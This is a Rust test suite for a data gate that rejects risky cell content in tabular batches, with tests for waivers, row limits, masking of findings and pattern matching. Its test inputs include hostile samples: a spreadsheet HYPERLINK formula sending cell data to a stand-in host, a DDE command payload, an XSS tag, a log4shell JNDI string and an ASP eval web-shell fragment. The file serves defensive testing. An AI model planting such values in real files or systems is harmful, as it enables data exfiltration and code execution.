use std::sync::Arc;

use arrow::array::{Array, ArrayRef, StringArray};
use proptest::prelude::*;

use super::*;
use crate::testing::{MemorySpill, approved, batch, cases, contract, contract_with, csv, options, text_column};
use crate::{CellKind, Cells, Checked, Contract, Gate};

/// A gate over a contract.
fn gate(contract: Contract) -> Gate {
    Gate::new(approved(contract), options(Arc::new(MemorySpill::default()))).unwrap()
}

fn text_gate() -> Gate {
    gate(contract(&["{name: a, logicalType: string}"]))
}

/// Rows that were refused: record, column and rule.
fn refused(checked: &Checked) -> Vec<(u64, &str, &'static str)> {
    checked.rejections.iter().map(|row| (row.record, row.column.as_deref().unwrap_or_default(), row.rule.name())).collect()
}

const RISKS: [(&str, &str); 9] = [
    ("=HYPERLINK(\"http://a.example/\"&B1)", "content:formula"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "content:formula"),
    ("ring\u{7}", "content:control"),
    ("next\u{85}line", "content:control"),
    ("access\u{202e}level", "content:bidi"),
    ("ad\u{200b}min", "content:bidi"),
    ("p\u{430}yp\u{430}l.com", "content:homoglyph"),
    ("<img src=x onerror=alert(1)>", "content:markup"),
    ("${jndi:ldap://a.example/x}", "content:pattern"),
];

#[test]
fn each_kind_is_refused_by_default_in_text_and_in_typed_columns() {
    let texts: Vec<&str> = RISKS.iter().map(|(text, _)| *text).chain(["ordinary"]).collect();
    let typed = |array: ArrayRef| Cells::Typed(array);
    let dictionary: arrow::array::DictionaryArray<arrow::datatypes::Int32Type> = texts.iter().copied().collect();
    for cells in [
        csv(&texts),
        typed(Arc::new(StringArray::from(texts.clone()))),
        typed(Arc::new(arrow::array::StringViewArray::from(texts.clone()))),
        typed(Arc::new(arrow::array::LargeStringArray::from(texts.clone()))),
        typed(Arc::new(dictionary)),
        typed(Arc::new(StringArray::from([vec!["before"], texts.clone(), vec!["after"]].concat()).slice(1, texts.len()))),
    ] {
        let checked = text_gate().check(batch(vec![cells], 0)).unwrap();
        let found: Vec<&str> = checked.rejections.iter().map(|row| row.rule.name()).collect();
        assert_eq!(found, RISKS.map(|(_, rule)| rule));
        assert_eq!(checked.admitted.rows(), 1);
        assert!(checked.rejections.iter().all(|row| row.column.as_deref() == Some("a")));
    }
}

#[test]
fn harmless_texts_of_many_languages_and_trades_are_let_in() {
    let texts: Vec<&str> = include_str!("../../tests/inspect/harmless.txt").lines().filter(|line| !line.is_empty()).collect();
    assert!(texts.len() >= 150, "{}", texts.len());
    let checked = text_gate().check(batch(vec![csv(&texts)], 0)).unwrap();
    let flagged: Vec<(&str, &str)> =
        checked.rejections.iter().map(|row| (texts[usize::try_from(row.record).unwrap() - 1], row.rule.name())).collect();
    assert_eq!(flagged, []);
}

#[test]
fn a_risk_is_told_before_any_other_rule_and_the_gravest_first() {
    let gate = gate(contract(&["{name: k, logicalType: integer}", "{name: a, logicalType: string, logicalTypeOptions: {maxLength: 5}}"]));
    let cells = vec![csv(&["x", "1", "y", "2"]), csv(&["=1+1+1", "=1+1+1", "ordinary", "=\u{7}<script>"])];
    let checked = gate.check(batch(cells, 0)).unwrap();
    let wanted = [(1, "a", "content:formula"), (2, "a", "content:formula"), (3, "k", "type"), (4, "a", "content:markup")];
    assert_eq!(refused(&checked), wanted);
}

#[test]
fn a_waiver_lets_one_kind_through_in_one_column_and_counts_it() {
    let waived = "{name: a, logicalType: string, customProperties: [{property: polder.waive, value: [{kind: formula, reason: shown as plain text, approver: Ann Example}]}]}";
    let gate = gate(contract(&[waived, "{name: b, logicalType: string}"]));
    let cells = vec![csv(&["=1+1", "=1+1\u{7}", "x", "=2+2"]), csv(&["x", "x", "=1+1", "x"])];
    let checked = gate.check(batch(cells, 0)).unwrap();
    assert_eq!(refused(&checked), [(2, "a", "content:control"), (3, "b", "content:formula")]);
    assert_eq!(checked.waived, [Waived { column: "a".into(), kind: Kind::Formula, rows: 3 }]);
    assert_eq!(checked.admitted.rows(), 2);
}

#[test]
fn a_null_is_nothing_and_a_record_that_was_not_split_stays_malformed() {
    let mut raw = batch(vec![text_column(&[(CellKind::Null, vec![]), (CellKind::String, b"=1+1".to_vec())])], 0);
    raw.malformed = vec![(0, crate::Malformed::Ragged)];
    let checked = text_gate().check(raw).unwrap();
    assert_eq!(refused(&checked), [(1, "", "malformed:ragged"), (2, "a", "content:formula")]);
    // What lies behind a null of a typed source is not a value.
    let hidden = StringArray::new(
        arrow::buffer::OffsetBuffer::from_lengths([4, 1]),
        arrow::buffer::Buffer::from_slice_ref(b"=1+1x"),
        Some(arrow::buffer::NullBuffer::from(vec![false, true])),
    );
    let checked = text_gate().check(batch(vec![Cells::Typed(Arc::new(hidden))], 0)).unwrap();
    assert_eq!(refused(&checked), []);
}

#[test]
fn what_a_finding_shows_is_a_shape() {
    let secret = "=HYPERLINK(\"http://secret.example/Dupont\")";
    let checked = text_gate().check(batch(vec![csv(&[secret, "=SUM(Dupont)", "${jndi:ldap://Dupont}"])], 0)).unwrap();
    let findings: Vec<_> = checked.rejections.iter().map(|row| row.finding.clone().unwrap()).collect();
    assert_eq!(findings[0].masked.as_deref(), Some("=a(\"a://a.a/a\") (42 characters)"));
    // One shape a kind and column of a batch suffices.
    assert_eq!(findings[1].masked, None);
    assert_eq!((findings[2].pattern, findings[2].masked.as_deref()), (Some("log4shell"), Some("${a:a://a} (21 characters)")));
    let shown = format!("{checked:?}");
    assert!(!shown.contains("Dupont") && !shown.contains("secret"), "{shown}");
}

#[test]
fn a_row_that_is_too_long_is_told_of_its_longest_column() {
    let columns = ["{name: a, logicalType: string}", "{name: b, logicalType: string}"];
    let limit = |bytes: u32| format!("  - {{property: polder.maxRowBytes, value: {bytes}}}\n");
    let gate = gate(contract_with(&columns, &limit(10)));
    let cells = || vec![csv(&["12345", "123456", "1", "éééé"]), csv(&["12345", "12345", "1234567890", "abc"])];
    let checked = gate.check(batch(cells(), 0)).unwrap();
    assert_eq!(refused(&checked), [(2, "a", "content:oversized"), (3, "b", "content:oversized"), (4, "a", "content:oversized")]);
    assert!(checked.rejections.iter().all(|row| row.finding.as_ref().is_some_and(|finding| finding.masked.is_none())));
    // Unless the contract says less, a row holds no more text than a record of a file: 17 columns of a megabyte do not pass.
    let names: Vec<String> = (0..17).map(|at| format!("{{name: c{at}, logicalType: string}}")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let megabyte: ArrayRef = Arc::new(StringArray::from(vec!["x".repeat(1 << 20), "x".to_owned()]));
    let checked = self::gate(contract(&names)).check(batch(vec![Cells::Typed(megabyte); 17], 0)).unwrap();
    assert_eq!(checked.rejections.iter().map(|row| (row.record, row.rule.name())).collect::<Vec<_>>(), [(1, "content:oversized")]);
}

#[test]
fn a_pattern_is_found_in_the_value_that_holds_it_and_in_no_other() {
    let key = |at: usize| ["AKIA", "IOSFODNN7EXAMPL", ["A", "B", "C"][at % 3]].concat();
    // Many batches of what is searched at once, with values that would match across their borders.
    let texts: Vec<String> = (0..30_000).map(|row| if row % 7_001 == 5 { key(row) } else { format!("AKIA row {row}") }).collect();
    let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
    let other: Vec<&str> = texts.iter().map(|_| "IOSFODNN7EXAMPLE").collect();
    let gate = gate(contract(&["{name: a, logicalType: string}", "{name: b, logicalType: string}"]));
    let checked = gate.check(batch(vec![csv(&texts), csv(&other)], 0)).unwrap();
    let wanted: Vec<_> = (0..30_000u64).filter(|row| row % 7_001 == 5).map(|row| (row + 1, "a", "content:pattern")).collect();
    assert_eq!(refused(&checked), wanted);
    assert!(checked.rejections.iter().all(|row| row.finding.as_ref().unwrap().pattern == Some("aws_access_key")));
}

#[test]
fn a_value_with_more_matches_than_are_counted_is_found() {
    let many = "<% ".repeat(40_000);
    let checked = text_gate().check(batch(vec![csv(&[&many, "x", "<%eval request(\"x\")%>", "y"])], 0)).unwrap();
    assert_eq!(refused(&checked), [(3, "a", "content:pattern")]);
}

#[test]
fn no_word_of_the_program_leads_to_a_gate_that_does_not_inspect() {
    fn walk(dir: &std::path::Path, found: &mut Vec<String>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, found);
            } else if path.extension().is_some_and(|ending| ending == "rs") {
                let text = std::fs::read_to_string(&path).unwrap();
                if text.contains(concat!("uninspected", "_for_measurement")) {
                    let path: Vec<_> = path.iter().skip_while(|part| *part != "examples" && *part != "src").collect();
                    found.push(path.join(std::ffi::OsStr::new("/")).into_string().unwrap());
                }
            }
        }
    }
    let mut found = Vec::new();
    walk(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(".."), &mut found);
    found.sort();
    // Where it is, and two examples, which no program holds.
    assert_eq!(found, ["examples/bench/load.rs", "examples/inspect_bench.rs", "src/gate.rs"]);
}

#[test]
fn waivers_and_limits_that_cannot_be_are_told() {
    let mut told = String::new();
    for value in [
        "x",
        "[x]",
        "[{kind: formulas, reason: shown as plain text, approver: Ann}]",
        "[{kind: formula, reason: shown as plain text, approver: Ann}, {kind: formula, reason: again the same one, approver: Ann}]",
        "[{kind: formula, reason: because, approver: Ann}]",
        "[{kind: formula, reason: shown as plain text}]",
        "[{kind: formula, reason: shown as plain text, approver: '  '}]",
        "[{kind: formula, reason: shown as plain text, approver: '42'}]",
        "[{kind: oversized, reason: shown as plain text, approver: Ann}]",
        "[{kind: formula, reson: shown as plain text, approver: Ann}]",
        "[{kind: 5, reason: shown as plain text, approver: Ann}]",
    ] {
        let yaml = format!(
            "apiVersion: v3.1.0\nkind: DataContract\nid: c1\nversion: 1.0.0\nstatus: active\ncustomProperties: [{{property: polder.source, value: s}}]\nschema:\n  - name: t\n    properties:\n      - name: a\n        logicalType: string\n        customProperties:\n          - property: polder.waive\n            value: {value}\n"
        );
        told.push_str(&format!("{value}\n    {}\n", Contract::parse(&yaml, "t.odcs.yaml").unwrap_err()));
    }
    for setting in ["polder.maxRowBytes, value: 0", "polder.maxRowBytes, value: 16777217", "polder.maxRowBytes, value: '5'"] {
        let yaml = format!(
            "apiVersion: v3.1.0\nkind: DataContract\nid: c1\nversion: 1.0.0\nstatus: active\ncustomProperties: [{{property: polder.source, value: s}}, {{property: {setting}}}]\nschema: [{{name: t, properties: [{{name: a, logicalType: string, customProperties: [{{property: polder.personal, value: [e-mail]}}]}}]}}]\n"
        );
        told.push_str(&format!("{setting}\n    {}\n", Contract::parse(&yaml, "t.odcs.yaml").unwrap_err()));
    }
    insta::assert_snapshot!(told);
}

#[test]
fn a_waiver_is_part_of_what_is_approved() {
    let with = |reason: &str| {
        let property = format!(
            "{{name: a, logicalType: string, customProperties: [{{property: polder.waive, value: [{{kind: formula, reason: {reason}, approver: Ann}}]}}]}}"
        );
        contract(&[&property]).semantic_hash()
    };
    assert_ne!(with("shown as plain text"), contract(&["{name: a, logicalType: string}"]).semantic_hash());
    assert_ne!(with("shown as plain text"), with("another reason for it"));
}

#[test]
fn every_kind_has_its_word() {
    for kind in Kind::ALL {
        assert_eq!(Kind::from_name(kind.name()), Some(kind));
        assert_eq!(Kinds::default().with(kind, true).iter().collect::<Vec<_>>(), [kind]);
    }
    assert_eq!(Kind::from_name("formulas"), None);
}

/// Texts in which something may be found: pieces that mean something, between any characters.
fn texts() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        " ",
        "'",
        "\"",
        "1",
        "A1",
        "SUM(",
        "if(",
        "cmd|'",
        "!A0",
        "|",
        "<",
        ">",
        "script",
        "<script>",
        "iframe",
        "onerror=",
        "javascript:",
        "data:text/html",
        ":",
        "{",
        "{{",
        "${",
        "__class__",
        "\0",
        "\u{7f}",
        "\u{85}",
        "\u{feff}",
        "\u{200b}",
        "\u{200d}",
        "\u{202e}",
        "\u{202a}",
        "\u{202c}",
        "\u{2067}",
        "\u{2069}",
        "\u{200f}",
        "\u{fe0f}",
        "\u{e0061}",
        "\u{1f3f4}",
        "👩",
        "ש",
        "क",
        "é",
        "а",
        "ο",
        "Α",
        "ｕ",
        "𝐚",
        "admin",
        "example.com",
        "@example.org",
        "http://",
        ".",
        "＝",
        "＋",
        "漢",
        "\u{a0}",
        "«",
        "&#106;",
        "a",
        "b",
        "(",
        ")",
    ]);
    prop::collection::vec(prop_oneof![4 => pieces.prop_map(str::to_owned), 1 => any::<char>().prop_map(|c| c.to_string())], 0..12)
        .prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(cases(512))]

    #[test]
    fn the_fast_way_finds_what_the_definitions_find(values in prop::collection::vec(prop::option::of(texts()), 0..20)) {
        // More than is looked at together, so that some is plain throughout.
        let plain = vec![Some("plain".to_owned()); 2 * TOGETHER];
        let values = [values.clone(), plain, values].concat();
        let array = StringArray::from(values.clone());
        let mut fast = vec![Kinds::default(); values.len()];
        of_column(&array, |row, kinds| fast[row] = kinds);
        for (value, fast) in values.iter().zip(fast) {
            prop_assert_eq!(fast, value.as_deref().map(of_text).unwrap_or_default(), "{:?}", value);
        }
        // A column that begins within its buffer is the same.
        if values.len() > 2 {
            let part = array.slice(1, values.len() - 2);
            let mut fast = vec![Kinds::default(); part.len()];
            of_column(&part, |row, kinds| fast[row] = kinds);
            for (value, fast) in values[1..].iter().zip(fast) {
                prop_assert_eq!(fast, value.as_deref().map(of_text).unwrap_or_default(), "{:?}", value);
            }
        }
    }

    #[test]
    fn patterns_are_found_in_many_values_as_in_each_alone(
        values in prop::collection::vec("(<%|AKIA|[A-Z2-7]{15,17}|\\$\\{jndi:|\\$\\{|eval|request\\(|ab|b|ca|bca| |\n|x){0,6}", 0..40),
        own in prop::sample::select(vec![
            "",
            // Strings that lie across the ends of values.
            "rule own { strings: $a = \"abc\" $b = \"bca\" $c = /b[ax]c/ condition: any of them }",
            "rule own { strings: $a = \"BCAC\" nocase $b = { 61 62 ( 62 | 63 ) 61 } $c = \"abca\" fullword condition: any of them }",
            "rule own { strings: $a = \"abca\" $b = \"bcab\" condition: for any of ($a) : ($b) }",
            // One whose bytes cannot be told beforehand.
            "rule own { strings: $a = /[a-z]{2}ca/ condition: $a }",
        ]),
    ) {
        let patterns = Patterns::compile(&[RuleFile { name: "rules/own.yar".to_owned(), text: own.to_owned() }]).unwrap();
        prop_assert_eq!(patterns.literals().is_some(), !own.contains("[a-z]"));
        // A null before and behind, and one within.
        let middle = values.len() / 2;
        let values: Vec<Option<String>> =
            [vec![None], values[..middle].iter().cloned().map(Some).collect(), vec![None], values[middle..].iter().cloned().map(Some).collect()].concat();
        let whole = StringArray::from(values.clone());
        // A column that is searched in several parts stands beside it, and another begins within its buffer.
        let parts = if values.len() % 8 == 7 { values.len() } else { 0 };
        let long = StringArray::from_iter_values((0..parts).map(|_| format!("<%{}", "x".repeat(20_000))));
        let part = whole.slice(1, whole.len() - 1);
        for (array, first) in [(&whole, 0), (&part, 1)] {
            let columns = [&long, array].map(|array| Inspected { place: 0, waived: Kinds::default(), array });
            let hits = search::hits(patterns, &columns).unwrap();
            let mut found: Vec<usize> = hits.into_iter().filter(|hit| hit.column == 1).map(|hit| hit.row + first).collect();
            found.sort_unstable();
            let holds = |value: &str| patterns.judge(value.as_bytes()).unwrap().is_some();
            let alone: Vec<usize> = (first..values.len()).filter(|row| values[*row].as_deref().is_some_and(holds)).collect();
            prop_assert_eq!(found, alone);
        }
    }

    #[test]
    fn a_shape_holds_no_letter_and_no_digit_of_its_value(value in "[b-zB-Z0-8 =@(\\u{e9}\\u{430}\\u{5d0}]{1,60}") {
        let shape = masked(&value);
        let (shape, length) = shape.rsplit_once(" (").unwrap();
        prop_assert!(!shape.chars().any(|c| c.is_alphanumeric() && c != 'a' && c != '9'), "{}", shape);
        prop_assert!(length.starts_with(&value.chars().count().to_string()));
    }
}
